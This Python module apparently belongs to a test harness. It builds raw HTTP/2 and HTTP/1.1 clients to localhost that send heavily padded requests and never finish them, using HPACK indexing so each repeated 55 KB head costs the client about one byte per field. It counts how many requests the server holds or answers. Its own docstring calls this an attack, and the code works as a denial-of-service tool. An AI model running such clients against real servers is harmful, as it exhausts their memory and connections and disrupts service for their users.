"""Clients that send requests and leave them waiting, over HTTP/2 and HTTP/1.1.

HTTP/2 makes a long head cheap. A field enters the server's HPACK table once for each connection. After that, one byte
represents the field (RFC 7541 §6.1). The client counts the bytes that it sends and the answers. It finishes no request.
"""

import asyncio
import struct
from collections import Counter
from dataclasses import dataclass, field

from wire import HOST, Request

# Bytes of padding. With the other fields, the head stays below `max_request_headers_kb` (60) and
# `max_headers_count` (100).
HEAD_BYTES = 55_000
# A field of this length leaves room for a token in the table of 4,096 bytes.
FIELD_BYTES = 2_500
PADDING = "x-padding"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
ACK = END_STREAM = 1
END_HEADERS = 4
HEADER_TABLE_SIZE, INITIAL_WINDOW_SIZE = 1, 4
MAX_FRAME_BYTES = 16_384
MAX_WINDOW = (1 << 31) - 1
DEFAULT_WINDOW = 65_535
# RFC 7541, Appendix A: the first index of the dynamic table, and the fields `:status` of the static one.
FIRST_DYNAMIC = 62
STATUSES = {8: 200, 9: 204, 10: 206, 11: 304, 12: 400, 13: 404, 14: 500}
# Timeout for opening a connection.
CONNECT_TIMEOUT_S = 60


def padded(request: Request, size: int = HEAD_BYTES) -> Request:
    """Adds fields of `size` bytes in total to the request."""
    for _ in range(size // FIELD_BYTES):
        request = request.with_header(PADDING, "x" * (FIELD_BYTES - len(PADDING)))
    return request


@dataclass(frozen=True)
class Unfinished:
    """A request that the client never finishes. The client sends the head and `request.body`. `length` is the content
    length that the head announces. A request of length 0 is complete."""

    request: Request
    length: int = 0

    def http1(self) -> bytes:
        headers = (("Host", HOST), *self.request.headers, ("Content-Length", str(self.length)))
        lines = [
            f"POST {self.request.path} HTTP/1.1",
            *(f"{name}: {value}" for name, value in headers),
            "",
            self.request.body,
        ]
        return "\r\n".join(lines).encode()

    def fields(self) -> list[tuple[str, str]]:
        pseudo = [(":method", "POST"), (":scheme", "http"), (":authority", HOST), (":path", self.request.path)]
        others = [(name.lower(), value) for name, value in self.request.headers]
        return [*pseudo, *others, ("content-length", str(self.length))]


class Encoder:
    """Field blocks of one connection: the first use of a field is a literal, each further one is an index."""

    def __init__(self) -> None:
        self.table: list[tuple[str, str]] = []

    def block(self, fields: list[tuple[str, str]]) -> bytes:
        encoded = bytearray()
        for each in fields:
            if each in self.table:
                encoded.append(0x80 | FIRST_DYNAMIC + len(self.table) - 1 - self.table.index(each))
            else:
                self.table.append(each)
                encoded.append(0x40)
                for text in each:
                    encoded += _integer(len(text), 7) + text.encode()
        return bytes(encoded)


def _integer(value: int, bits: int) -> bytes:
    """An integer by RFC 7541 §5.1. The bits above the prefix are zero."""
    limit = (1 << bits) - 1
    if value < limit:
        return bytes([value])
    value, encoded = value - limit, bytearray([limit])
    while value >= 128:
        encoded.append(value & 127 | 128)
        value >>= 7
    return bytes([*encoded, value])


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def status_of(block: bytes) -> int:
    """The status of an answer. Its sender keeps no table, so `:status` is an indexed or a literal field."""
    while block[0] & 0xE0 == 0x20:
        block = block[1:]
    if block[0] & 0x80:
        return STATUSES[block[0] & 0x7F]
    length, text = block[1] & 0x7F, block[2:]
    if not block[1] & 0x80:
        return int(text[:length])
    # Huffman codes of digits (RFC 7541, Appendix B): five bits for 0 to 2, six for the others.
    bits, digits = "".join(f"{byte:08b}" for byte in text[:length]), ""
    while len(digits) < 3:
        size = 5 if bits.startswith("000") else 6
        code, bits = int(bits[:size], 2), bits[size:]
        digits += str(code if size == 5 else code - 0b011001 + 3)
    return int(digits)


@dataclass
class Tally:
    """The sent requests and bytes, and the answers by status, or as `reset` or `closed`."""

    requests: int = 0
    bytes: int = 0
    answers: Counter = field(default_factory=Counter)

    @property
    def held(self) -> int:
        return self.requests - sum(self.answers.values())


class Http2:
    """One connection with requests that wait."""

    def __init__(self, port: int, tally: Tally) -> None:
        self.port, self.tally = port, tally
        self.encoder = Encoder()
        self.last_stream = -1
        self.open: set[int] = set()
        self.window, self.initial_window = DEFAULT_WINDOW, DEFAULT_WINDOW
        self.changed = asyncio.Event()
        self.acknowledged = asyncio.Event()
        self.is_ready = asyncio.Event()

    async def connect(self) -> "Http2":
        async with asyncio.timeout(CONNECT_TIMEOUT_S):
            self.reader, self.writer = await asyncio.open_connection("127.0.0.1", self.port)
        # The server may keep no table, and may send without limit.
        settings = struct.pack(">HI", HEADER_TABLE_SIZE, 0)
        self._write(
            PREFACE
            + frame(SETTINGS, 0, 0, settings)
            + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", MAX_WINDOW - DEFAULT_WINDOW))
        )
        self.reading = asyncio.create_task(self._read())
        await self.is_ready.wait()
        return self

    def _write(self, data: bytes) -> None:
        self.tally.bytes += len(data)
        self.writer.write(data)

    async def send(self, unfinished: Unfinished, count: int) -> None:
        """Sends `count` requests, and returns when the server has read them."""
        streams = self.begin(unfinished, count)
        if body := unfinished.request.body.encode():
            for stream in streams:
                await self._send_body(stream, body)
        await self.ping()

    def begin(self, unfinished: Unfinished, count: int) -> list[int]:
        """Sends the heads of `count` requests. Returns their streams."""
        heads, streams = bytearray(), []
        for _ in range(count):
            self.last_stream += 2
            streams.append(self.last_stream)
            block = self.encoder.block(unfinished.fields())
            end = 0 if unfinished.length else END_STREAM
            first, *rest = [block[start : start + MAX_FRAME_BYTES] for start in range(0, len(block), MAX_FRAME_BYTES)]
            heads += frame(HEADERS, end | (0 if rest else END_HEADERS), self.last_stream, first)
            for number, part in enumerate(rest, 1):
                heads += frame(CONTINUATION, END_HEADERS if number == len(rest) else 0, self.last_stream, part)
        self.tally.requests += count
        self.open.update(streams)
        self._write(bytes(heads))
        return streams

    async def _send_body(self, stream: int, body: bytes) -> None:
        for start in range(0, len(body), MAX_FRAME_BYTES):
            part = body[start : start + MAX_FRAME_BYTES]
            while self.window < len(part) and not self.reading.done():
                self.changed.clear()
                await self.changed.wait()
            if stream not in self.open:
                return
            self.window -= len(part)
            self._write(frame(DATA, 0, stream, part))
            await self.writer.drain()

    async def ping(self) -> None:
        if self.reading.done():
            return
        self.acknowledged.clear()
        self._write(frame(PING, 0, 0, bytes(8)))
        await self.acknowledged.wait()

    async def _read(self) -> None:
        try:
            while True:
                head = await self.reader.readexactly(9)
                length, kind, flags = int.from_bytes(head[:3]), head[3], head[4]
                self._take(kind, flags, int.from_bytes(head[5:]), await self.reader.readexactly(length))
        except (asyncio.IncompleteReadError, ConnectionError):
            if self.open:
                self.tally.answers["closed"] += len(self.open)
            self.open.clear()
        finally:
            for event in (self.changed, self.acknowledged, self.is_ready):
                event.set()

    def _take(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == HEADERS and stream in self.open:
            self.open.discard(stream)
            self.tally.answers[status_of(payload)] += 1
        elif kind == RST_STREAM and stream in self.open:
            self.open.discard(stream)
            self.tally.answers["reset"] += 1
        elif kind == SETTINGS and not flags & ACK:
            self._write(frame(SETTINGS, ACK, 0))
            self.is_ready.set()
        elif kind == PING and flags & ACK:
            self.acknowledged.set()
        elif kind == PING:
            self._write(frame(PING, ACK, 0, payload))
        elif kind == WINDOW_UPDATE and stream == 0:
            self.window += int.from_bytes(payload)
            self.changed.set()

    async def close(self) -> None:
        self.reading.cancel()
        self.writer.close()


class Http1:
    """The same attack over HTTP/1.1: the requests of one connection wait for each other."""

    def __init__(self, port: int, tally: Tally) -> None:
        self.port, self.tally = port, tally
        self.waiting = 0

    async def connect(self) -> "Http1":
        async with asyncio.timeout(CONNECT_TIMEOUT_S):
            self.reader, self.writer = await asyncio.open_connection("127.0.0.1", self.port)
        self.reading = asyncio.create_task(self._read())
        return self

    async def send(self, unfinished: Unfinished, count: int) -> None:
        data = unfinished.http1() * count
        self.tally.requests += count
        self.waiting += count
        self.tally.bytes += len(data)
        try:
            self.writer.write(data)
            await self.writer.drain()
        except ConnectionError:
            pass

    async def _read(self) -> None:
        try:
            while True:
                head = await self.reader.readuntil(b"\r\n\r\n")
                self.waiting -= 1
                self.tally.answers[int(head.split(b" ", 2)[1])] += 1
                for line in head.split(b"\r\n"):
                    if line.lower().startswith(b"content-length:"):
                        await self.reader.readexactly(int(line.split(b":")[1]))
        except (asyncio.IncompleteReadError, ConnectionError):
            if self.waiting:
                self.tally.answers["closed"] += self.waiting
            self.waiting = 0

    async def close(self) -> None:
        self.reading.cancel()
        self.writer.close()
